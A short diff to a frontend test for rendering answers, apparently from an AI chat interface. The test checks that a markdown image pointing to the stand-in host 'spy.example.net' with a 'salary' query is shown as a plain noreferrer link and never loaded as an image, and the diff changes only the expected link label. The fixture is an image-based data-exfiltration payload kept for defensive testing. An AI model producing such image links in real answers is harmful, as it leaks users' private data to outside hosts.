@@ -135,7 +135,7 @@ describe("an answer", () => {
     await answer([{ id: "b1", type: "text", markdown: "![Secret](https://spy.example.net/?q=salary)" }]);
     expect(place.querySelector("img")).toBeNull();
     const link = place.querySelector("a");
-    expect(link?.textContent).toBe("Picture: Secret (spy.example.net)");
+    expect(link?.textContent).toBe("Image: Secret (spy.example.net)");
     expect(link?.rel).toContain("noreferrer");
   });
 
